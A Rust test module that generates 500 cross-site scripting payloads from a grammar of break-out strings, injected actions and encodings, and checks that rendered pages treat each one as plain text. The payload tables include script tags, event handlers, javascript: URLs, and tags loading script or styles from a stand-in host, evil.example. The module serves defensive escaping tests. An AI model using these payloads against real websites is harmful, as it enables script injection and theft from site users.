//! Five hundred ways to write what a browser would run, out of a small grammar: how to get out of where a text stands, what to
//! do then, and how to hide it. Each is put into every text of a view at once; the page that comes of it must have the elements
//! and attributes that it has for a harmless word, and nothing more.

mod views;

pub use views::{PAYLOAD, assert_harmless};

use serde::Serialize;
use serde::de::DeserializeOwned;
use serde_json::Value;
use std::collections::BTreeSet;
use std::sync::LazyLock;
use views::{Key, collect};

pub const COUNT: usize = 500;

/// Out of a text, an attribute in either quotes, an element whose content is no markup, a comment, a template.
const BREAKS: [&str; 16] = [
    "",
    "\">",
    "'>",
    "\"'>",
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "</option></select>",
    "</svg>",
    "\\\">",
    "`>",
];

const ACTS: [&str; 24] = [
    "<script>hit()</script>",
    "<script src=//evil.example/x></script>",
    "<img src=x onerror=hit()>",
    "<svg/onload=hit()>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<a href=javascript:hit()>x</a>",
    "<a href='java\tscript:hit()'>x</a>",
    "<math><a xlink:href=javascript:hit()>x",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<body onload=hit()>",
    "<object data=javascript:hit()>",
    "<embed src=data:text/html,hit()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<form action=javascript:hit()><button>x",
    "<button formaction=javascript:hit()>x",
    "<link rel=stylesheet href=//evil.example/x>",
    "<style>@import '//evil.example/x'</style>",
    "<template><script>hit()</script></template>",
    "x\" onmouseover=\"hit()\" y=\"",
    "x' onfocus='hit()' autofocus y='",
    "javascript:hit()//",
];

const HIDES: [fn(&str) -> String; 8] = [
    str::to_owned,
    str::to_uppercase,
    |text| {
        text.chars().enumerate().map(|(n, c)| if n % 2 == 0 { c.to_ascii_uppercase() } else { c }).collect()
    },
    |text| text.replace('<', "&lt;").replace('"', "&quot;"),
    |text| text.replace('<', "&#x3c;").replace('>', "&#62;"),
    |text| text.replace('<', "%3C").replace('"', "%22"),
    |text| text.replace(' ', "/").replace('<', "\u{0}<"),
    |text| text.replace(' ', "\n").replace('<', "<\u{fe64}<"),
];

/// Spread over the whole grammar, always the same.
pub static PAYLOADS: LazyLock<Vec<String>> = LazyLock::new(|| {
    let whole = BREAKS.len() * ACTS.len() * HIDES.len();
    let all = (0..whole).map(|n| {
        let (break_out, act) = (BREAKS[n % BREAKS.len()], ACTS[n / BREAKS.len() % ACTS.len()]);
        HIDES[n / BREAKS.len() / ACTS.len()](&format!("{break_out}{act}"))
    });
    // A step that shares no factor with the number goes through all of them without a pattern.
    let all: Vec<String> = all.collect();
    let mut seen = BTreeSet::new();
    (0..whole)
        .map(|n| &all[n * 1_009 % whole])
        .filter(|text| seen.insert(*text))
        .take(COUNT)
        .cloned()
        .collect()
});

/// What a browser would make of a page: its elements with the names of their attributes, what stands in scripts and styles,
/// and where its addresses lead.
#[derive(Debug, Default, PartialEq, Eq)]
struct Skeleton {
    elements: Vec<String>,
    addresses: Vec<String>,
}

/// Elements whose content is no markup.
const RAW: [&str; 6] = ["script", "style", "textarea", "title", "noscript", "iframe"];
/// What our components make of words as they are long, broken or named: it can do nothing, and comes and goes with the words.
const INERT: [&str; 7] =
    ["span", "/span", "span class", "code", "/code", "line x1 y1 x2 y2 stroke-width class", "/line"];
const LEADING: [&str; 8] = ["href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcdoc"];

/// As the HTML standard's tokenizer goes through it, as far as our pages use it.
fn skeleton(html: &str) -> Skeleton {
    let mut found = Skeleton::default();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        if let Some(comment) = rest.strip_prefix("!--") {
            // `<!-->` and `<!--->` are whole comments.
            let short = ["->", ">"].into_iter().find_map(|end| comment.strip_prefix(end));
            let long = || comment.split_once("-->").map_or("", |(_, after)| after);
            rest = short.unwrap_or_else(long);
        } else if rest.starts_with(['!', '?']) {
            rest = rest.split_once('>').map_or("", |(_, after)| after);
        } else if rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/') {
            rest = tag(rest, &mut found);
        }
    }
    found
}

/// From behind its `<`; gives what comes after it.
fn tag<'h>(text: &'h str, found: &mut Skeleton) -> &'h str {
    let name_end = text.find(|c: char| c.is_ascii_whitespace() || c == '>').unwrap_or(text.len());
    let name = text[..name_end].trim_end_matches('/').to_ascii_lowercase();
    let (mut element, mut rest) = (name.clone(), &text[name_end..]);
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '/');
        if rest.is_empty() {
            break;
        }
        if let Some(after) = rest.strip_prefix('>') {
            rest = after;
            break;
        }
        let end =
            rest.find(|c: char| c.is_ascii_whitespace() || "=/>".contains(c)).unwrap_or(rest.len()).max(1);
        let attribute = rest[..end].to_ascii_lowercase();
        rest = rest[end..].trim_start();
        let mut value = "";
        if let Some(after) = rest.strip_prefix('=') {
            let after = after.trim_start();
            let quote = after.chars().next().filter(|c| "\"'".contains(*c));
            (value, rest) = match quote {
                Some(quote) => after[1..].split_once(quote).unwrap_or((&after[1..], "")),
                None => after.split_at(
                    after.find(|c: char| c.is_ascii_whitespace() || c == '>').unwrap_or(after.len()),
                ),
            };
        }
        if LEADING.contains(&attribute.as_str()) {
            found.addresses.push(value.to_owned());
        }
        element.push(' ');
        element.push_str(&attribute);
    }
    if RAW.contains(&name.as_str()) {
        let lower = rest.to_ascii_lowercase();
        let end = lower.find(&format!("</{name}")).unwrap_or(rest.len());
        if name == "script" || name == "style" {
            element.push_str(&rest[..end]);
        }
        rest = &rest[end..];
    }
    if !INERT.contains(&element.as_str()) {
        found.elements.push(element);
    }
    rest
}

/// Whether a browser that follows it stays with the web: as it reads an address, past what it leaves out.
fn leads_to_the_web(address: &str) -> bool {
    let entities = [
        ("&colon;", ":"),
        ("&Tab;", ""),
        ("&NewLine;", ""),
        ("&quot;", "\""),
        ("&lt;", "<"),
        ("&gt;", ">"),
        ("&amp;", "&"),
    ];
    let plain = entities.into_iter().fold(address.to_owned(), |text, (entity, is)| text.replace(entity, is));
    let read: String = plain.chars().filter(|c| !c.is_ascii_control() && *c != ' ').collect();
    let scheme =
        read.split(['/', '?', '#']).next().and_then(|start| start.split_once(':')).map(|(scheme, _)| scheme);
    !read.starts_with("//")
        && scheme
            .is_none_or(|scheme| ["http", "https", "mailto"].contains(&scheme.to_ascii_lowercase().as_str()))
}

fn at<'v>(value: &'v mut Value, path: &[Key]) -> Option<&'v mut Value> {
    path.iter().try_fold(value, |at, key| match key {
        Key::Name(name) => at.get_mut(name),
        Key::Index(index) => at.get_mut(*index),
    })
}

/// The view with `text` in each of its texts.
fn filled<T: DeserializeOwned>(whole: &Value, texts: &[Vec<Key>], text: &str) -> Option<T> {
    let mut whole = whole.clone();
    for path in texts {
        *at(&mut whole, path)? = Value::String(text.to_owned());
    }
    serde_json::from_value(whole).ok()
}

/// Where a view takes any text; ids and enumerations do not.
fn free_texts<T: DeserializeOwned>(whole: &Value) -> Vec<Vec<Key>> {
    let mut paths = Vec::new();
    collect(whole, &mut Vec::new(), &mut paths);
    let takes = |path: &Vec<Key>| filled::<T>(whole, std::slice::from_ref(path), PAYLOAD).is_some();
    paths.into_iter().filter(takes).collect()
}

/// # Panics
/// When a payload is more on the page than a harmless word is.
pub fn each_stays_text<T: Serialize + DeserializeOwned>(page: &str, view: &T, show: impl Fn(T) -> String) {
    let whole = serde_json::to_value(view).unwrap();
    let texts = free_texts::<T>(&whole);
    let harmless = skeleton(&show(filled(&whole, &texts, "harmless").unwrap()));
    assert!(harmless.elements.len() > 20, "{page} has no more than {:?}", harmless.elements);
    for payload in PAYLOADS.iter() {
        let view = filled(&whole, &texts, payload);
        assert!(view.is_some(), "{page} does not take {payload:?}");
        judge(page, payload, &harmless, &show(view.unwrap()));
    }
}

/// # Panics
/// When the page is more than with a harmless word.
fn judge(page: &str, payload: &str, harmless: &Skeleton, html: &str) {
    let found = skeleton(html);
    for (n, element) in found.elements.iter().enumerate() {
        let expected = harmless.elements.get(n).map_or("nothing", String::as_str);
        assert_eq!(element, expected, "{page} with {payload:?}: element {n}");
    }
    assert_eq!(found.elements.len(), harmless.elements.len(), "{page} with {payload:?}");
    for address in &found.addresses {
        assert!(leads_to_the_web(address), "{page} with {payload:?} leads to {address}");
    }
}

#[test]
fn the_grammar_makes_five_hundred_different_payloads_that_a_careless_page_would_run() {
    assert_eq!(PAYLOADS.len(), COUNT);
    let mut careless = 0;
    for payload in PAYLOADS.iter() {
        let page = |text: &str| {
            format!(
                "<p>{text}</p><a href=\"/x\" title=\"{text}\">y</a><a href='{text}'>z</a><textarea>{text}</textarea>"
            )
        };
        let (harmless, found) = (skeleton(&page("harmless")), skeleton(&page(payload)));
        let same = found.elements == harmless.elements && found.addresses.iter().all(|a| leads_to_the_web(a));
        careless += usize::from(!same);
    }
    // What is escaped already, or needs another place than these, does nothing to this page.
    assert!(careless > COUNT * 6 / 10, "only {careless} of {COUNT}");
}

#[test]
fn addresses_are_read_as_browsers_read_them() {
    for good in [
        "/runs/1",
        "?state=running",
        "#steps",
        "https://example.com/a:b",
        "",
        "runs:list/".split(':').next().unwrap(),
    ] {
        assert!(leads_to_the_web(good), "{good}");
    }
    for bad in [
        "javascript:hit()",
        "JaVa\tscript:hit()",
        " java\nscript:x",
        "java&Tab;script&colon;x",
        "data:text/html,x",
        "//evil.example/x",
        "vbscript:x",
    ] {
        assert!(!leads_to_the_web(bad), "{bad}");
    }
}
